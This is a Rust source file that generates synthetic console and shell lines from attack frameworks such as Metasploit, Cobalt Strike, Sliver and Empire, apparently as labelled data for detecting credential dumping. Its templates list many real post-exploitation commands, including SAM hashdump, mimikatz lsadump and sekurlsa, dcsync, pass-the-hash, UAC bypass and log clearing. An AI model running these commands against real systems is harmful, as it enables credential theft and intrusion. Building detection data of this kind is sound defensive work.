//! Consoles of attack frameworks: Metasploit, Cobalt Strike, Empire and the rest.

use crate::generate::family::{Family, Kind::Console, Kind::Sh};

const MSF: &[&str] = &[
    "meterpreter > {mp}",
    "{mp}",
    "meterpreter > getsystem⏎«...got system via technique 1.⏎»meterpreter > {mp}",
    "use {mod}⏎set SESSION {1..9}⏎«run¦exploit»",
    "msf{v} > use {mod}⏎msf{v} {mt}({mod}) > set SESSION {1..9}⏎msf{v} {mt}({mod}) > run",
    "meterpreter > run {mod}",
    "run {mod}« -{stem}»",
    "meterpreter > background⏎msf{v} > use {mod}⏎set session {1..20}⏎run -j",
    "sessions -i {1..9}⏎{mp}",
    "sessions -C «{mp}¦'{mp}'»",
    "meterpreter > migrate {pid}⏎meterpreter > {mp}",
    "use {mod}⏎show options⏎set SESSION {1..9}⏎set GETSYSTEM true⏎exploit",
    "resource (/root/{stem}.rc)> run {mod}",
    "meterpreter > ps⏎meterpreter > {mp}⏎{res}",
];
const MSFRC: &[&str] = &[
    r#"msfconsole -«q ¦»x "use {mod}; set SESSION {1..9}; run«; exit»""#,
    concat!(
        r"msfconsole -q -x 'use exploit/windows/smb/psexec; set RHOSTS {rhost}; set SMBUser {user}; ",
        r#"set SMBPass {password}; set AutoRunScript "{mod}"; run'"#,
    ),
    r"echo «-e »'use {mod}\nset SESSION {1..9}\nrun' > {stem.1}.rc && msfconsole -r {stem.1}.rc",
    r#"msfconsole -qx "sessions -C {mp}""#,
    r"use {aux}⏎set RHOSTS {rhost}⏎set SMBUser {user}⏎set SMBPass {password}⏎run",
    r#"msfconsole -x "use {aux}; set RHOSTS {rhost}; set SMBUser {user}; set SMBPass {password}; run""#,
];
const BEACON: &[&str] = &[
    "beacon> {b}",
    "{b}",
    "[beacon] {user}*@{plainhost} > {b}",
    "beacon> getsystem⏎beacon> {b}",
    "«{month}/{10..28} ¦»{clock} «UTC »[input] <{first}> {b}",
    "[*] Tasked beacon to {bt}",
    "bdllspawn($1, script_resource('{b}.dll'))",
    "beacon> sleep {1..60}⏎beacon> {b}⏎[+] received output:⏎{res}",
    "{stem} > {b}",
    "Agent {ALNUM8} << {b}",
    "[{plainhost}] demon >> {b}",
    "«sliver ({ALNUM8})¦[server] sliver ({alnum6})» > {s}",
    "{s}",
    "(Empire: {ALNUM8}) > {e}",
    "(Empire: {e}) > execute",
    "({alnum6}) covenant > {c}",
    "(koadic: sta/js/mshta)# {k}",
    "pupy > {pp}",
    "{pp}",
    "PoshC2> {pp}",
    "brute ratel> {b}",
    "Merlin[agent][{guid}]# {s}",
    "Apfell: {b}",
];

pub const FAMILIES: &[Family] = &[
    Family::act("metasploit", "metasploit-hashdump", "metasploit-other", Console, MSF).slots(&[("v", "«5¦6¦»"), ("mt", "post"), ("mp", concat!(
            "«hashdump¦hashdump¦Hashdump¦run hashdump¦run post/windows/gather/hashdump¦run ",
            "post/windows/gather/smart_hashdump¦run windows/gather/smart_hashdump¦lsa_dump_sam¦load ",
            "kiwi⏎lsa_dump_sam¦run post/windows/gather/credentials/credential_collector¦run ",
            "smart_hashdump¦load priv⏎hashdump¦kiwi_cmd lsadump::sam¦creds_all; lsa_dump_sam»",
        )), ("mod", concat!(
            "«post/windows/gather/hashdump¦post/windows/gather/smart_hashdump¦windows/gather/hashdump¦",
            "post/windows/gather/credentials/credential_collector¦windows/gather/smart_hashdump¦",
            "scripts/hashdump»",
        )), ("res", concat!(
            "Administrator:500:aad3b435b51404eeaad3b435b51404ee:{hex32}:::⏎",
            "Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::",
        ))]).weight(25),
    Family::other("metasploit", "metasploit-other", Console, MSF).slots(&[("v", "«5¦6¦»"), ("mt", "«post¦exploit»"), ("mp", concat!(
            "«sysinfo¦getuid¦getsystem¦ps¦screenshot¦ipconfig¦shell¦keyscan_start¦lsa_dump_secrets¦",
            "creds_all¦creds_msv¦load kiwi⏎creds_wdigest¦kiwi_cmd sekurlsa::logonpasswords¦run ",
            "post/multi/recon/local_exploit_suggester¦run post/windows/gather/enum_shares¦run ",
            "post/windows/gather/lsa_secrets¦run post/windows/gather/cachedump¦dcsync_ntlm krbtgt¦",
            "golden_ticket_create¦hashdump -h¦upload {stem} {dir}¦download {docfile}¦portfwd add -l ",
            "{port} -p {port} -r {ip}¦run autoroute -s {cidr}¦clearev¦migrate -N explorer.exe¦",
            "steal_token {pid}¦search -f *.kdbx¦wifi_list»",
        )), ("mod", concat!(
            "«post/windows/gather/lsa_secrets¦post/windows/gather/cachedump¦post/linux/gather/hashdump¦",
            "post/osx/gather/hashdump¦post/multi/gather/firefox_creds¦",
            "post/windows/gather/enum_logged_on_users¦exploit/windows/smb/psexec¦",
            "post/windows/manage/enable_rdp¦post/windows/gather/credentials/domain_hashdump¦",
            "post/windows/gather/ntds_location¦post/windows/gather/credentials/enum_cred_store¦",
            "exploit/windows/local/bypassuac¦post/windows/gather/enum_ad_computers¦",
            "auxiliary/scanner/smb/smb_version»",
        )), ("res", "Computer : {plainhost}⏎OS : Windows 10 (10.0 Build 19045).⏎Architecture : x64⏎Domain : {domain}")]).weight(25),
    Family::act("metasploit", "msfconsole-hashdump", "msfconsole-other", Sh, MSFRC).slots(&[("mp", "hashdump"), ("mod", "«post/windows/gather/hashdump¦post/windows/gather/smart_hashdump»"), ("aux", concat!(
            "«auxiliary/gather/windows_secrets_dump¦auxiliary/scanner/smb/impacket/secretsdump¦",
            "scanner/smb/impacket/secretsdump¦gather/windows_secrets_dump»",
        ))]).weight(6),
    Family::other("metasploit", "msfconsole-other", Sh, MSFRC).slots(&[("mp", "«getuid¦sysinfo¦screenshot¦ps»"), ("mod", concat!(
            "«post/linux/gather/hashdump¦post/windows/gather/enum_shares¦exploit/multi/handler¦",
            "post/windows/gather/lsa_secrets¦post/windows/manage/migrate¦post/solaris/gather/hashdump»",
        )), ("aux", concat!(
            "«auxiliary/scanner/smb/smb_login¦auxiliary/scanner/smb/smb_enumshares¦",
            "auxiliary/admin/smb/psexec_command¦auxiliary/scanner/smb/impacket/wmiexec¦",
            "auxiliary/scanner/postgres/postgres_hashdump¦auxiliary/scanner/mssql/mssql_hashdump»",
        ))]).weight(8),
    Family::act("c2", "c2-hashdump", "c2-other", Console, BEACON).slots(&[("b", concat!(
            r"«hashdump¦hashdump¦hashdump¦hashdump {pid} x64¦hashdump x86 {pid}¦mimikatz lsadump::sam¦",
            r"mimikatz !lsadump::sam¦shell reg save HKLM\{whole} {outfile}¦run reg save hklm\{whole} ",
            r"{outfile}¦powerpick Get-PassHashes¦powershell Invoke-PowerDump¦reg_query HKLM\SAM\SAM¦",
            r"samdump¦nanorobeus; samdump {dir}¦inline-execute {shdir}/reg_save.o HKLM SAM ",
            r"{dir}\{stem} 1¦bof-regsave {dir}¦reg_save HKLM SAM {outfile}¦SharpSecDump ",
            r"-target=localhost¦execute-assembly {shdir}/SharpSecDump.exe -target={host}¦shell copy ",
            r"{hivefile} {outfile}»",
        )), ("bt", "«dump hashes¦dump password hashes¦dump SAM hashes¦run mimikatz's lsadump::sam command»"), ("res", "Administrator:500:aad3b435b51404eeaad3b435b51404ee:{hex32}:::"), ("s", concat!(
            "«hashdump¦registry read --hive HKLM SAM\\SAM\\Domains\\Account F¦execute -o reg.exe save ",
            "HKLM\\{whole} {stem}¦hashdump -h {plainhost}¦bof-reg-save HKLM SAM¦samdump¦",
            "shell reg save HKLM\\SAM {outfile}»",
        )), ("e", concat!(
            "«usemodule «powershell/»credentials/powerdump¦usemodule credentials/powerdump*¦",
            "powershell/credentials/powerdump¦usemodule «powershell/»credentials/mimikatz/sam¦",
            "powershell/credentials/mimikatz/sam¦usemodule python/credentials/mimikatz_sam¦usemodule ",
            "csharp_samdump»",
        )), ("c", concat!(
            "«SamDump¦samdump¦Mimikatz lsadump::sam¦Mimikatz \"lsadump::sam\"¦SafetyKatz lsadump::sam¦",
            "ShellCmd reg save HKLM\\SAM {outfile}¦SharpSC; SamDump»",
        )), ("k", "«use implant/gather/hashdump_sam¦hashdump_sam¦use hashdump_sam⏎run»"), ("pp", concat!(
            "«run creddump¦hashdump¦creddump¦gethashes -sam¦invoke-hashdump¦hashdump --sam¦hivejack¦",
            "invoke-powerdump»",
        ))]).weight(25),
    Family::other("c2", "c2-other", Console, BEACON).slots(&[("b", concat!(
            r"«getuid¦sleep {1..600} {1..50}¦ps¦ls {dir}¦upload {stem}.exe¦download {docfile}¦shell ",
            r"whoami /all¦run net user {user} /domain¦powershell Get-NetUser¦powerpick ",
            r"Get-DomainComputer¦execute-assembly {shdir}/«Rubeus¦Seatbelt¦SharpHound¦SharpUp¦",
            r"Certify».exe «kerberoast¦-group=all¦-c All¦audit¦find /vulnerable»¦logonpasswords¦",
            r"mimikatz sekurlsa::logonpasswords¦mimikatz lsadump::secrets¦mimikatz !lsadump::cache¦",
            r"dcsync {domain} {domain}\krbtgt¦jump psexec64 {host} {stem}¦jump winrm64 {host} {stem}¦",
            r"make_token {domain}\{user} {password}¦pth {domain}\{user} {nthash}¦steal_token {pid}¦",
            r"rev2self¦spawnto x64 {windir}\System32\{stem}.exe¦inject {pid} x64 {stem}¦keylogger¦",
            r"screenshot¦printscreen¦portscan {cidr} 445 none 1024¦socks {port}¦rportfwd {port} {ip} ",
            r"{port}¦elevate uac-token-duplication {stem}¦reg query x64 HKLM\{softkey}¦reg_query ",
            r"{plainhost} HKLM {softkey}¦shell reg save HKLM\SOFTWARE {outfile}¦shell reg query ",
            r"HKLM\{syskey}¦blockdlls start¦ppid {pid}¦exit¦nanodump --write {outfile}¦chromedump¦net ",
            r"sharex¦shell copy {otherfile} {outfile}¦clipboard¦timestomp {stem} {stem}»",
        )), ("bt", concat!(
            "«list processes¦run mimikatz's sekurlsa::logonpasswords command¦take a screenshot¦sleep ",
            "for {1..300}s¦become a child of PID {pid}¦run: whoami /groups¦dump LSASS¦run .NET ",
            "program: Rubeus.exe¦upload {stem} as {dir}\\{stem}»",
        )), ("res", "{domain}\\{user}"), ("s", concat!(
            "«whoami¦ps -e svchost¦getprivs¦info¦execute -o cmd.exe /c whoami¦procdump -n lsass.exe¦",
            "sa-whoami¦sharp-hound-4 -- -c All¦rubeus kerberoast¦registry read --hive HKLM {softkey}¦",
            "ls C:/Users¦pivots tcp¦portfwd add -r {ip}:{port}¦screenshot¦socks5 start¦shell hostname»",
        )), ("e", concat!(
            "«usemodule «powershell/»credentials/mimikatz/logonpasswords¦usemodule ",
            "powershell/situational_awareness/network/powerview/get_user¦",
            "powershell/credentials/mimikatz/dcsync¦powershell/credentials/invoke_kerberoast¦usemodule ",
            "powershell/privesc/bypassuac_eventvwr¦usestager windows/launcher_bat¦usemodule ",
            "credentials/tokens¦powershell/collection/keylogger¦usemodule ",
            "powershell/credentials/mimikatz/cache»",
        )), ("c", concat!(
            "«ProcessList¦WhoAmI¦Seatbelt -group=user¦Rubeus kerberoast¦SharpUp audit¦ListDirectory ",
            "{dir}¦LogonPasswords¦DCSync {user}¦LsaSecrets¦LsaCache¦ShellCmd ipconfig /all¦ScreenShot¦",
            "PortScan {ip} 1-1000»",
        )), ("k", concat!(
            "«use implant/manage/enable_rdesktop¦use stager/js/mshta¦use ",
            "implant/gather/enum_domain_info¦zombies 0¦use implant/elevate/bypassuac_eventvwr¦use ",
            "implant/gather/hashdump_dc»",
        )), ("pp", concat!(
            "«get_info¦getsystem¦ps¦memory_exec {stem}.exe¦run shell_exec whoami¦invoke-userhunter¦",
            "screenshot¦loadmodule powerview.ps1¦get-screenshot¦keyscan¦get-creds¦lazagne browsers¦",
            "arpscan {cidr}»",
        ))]).weight(30),
];
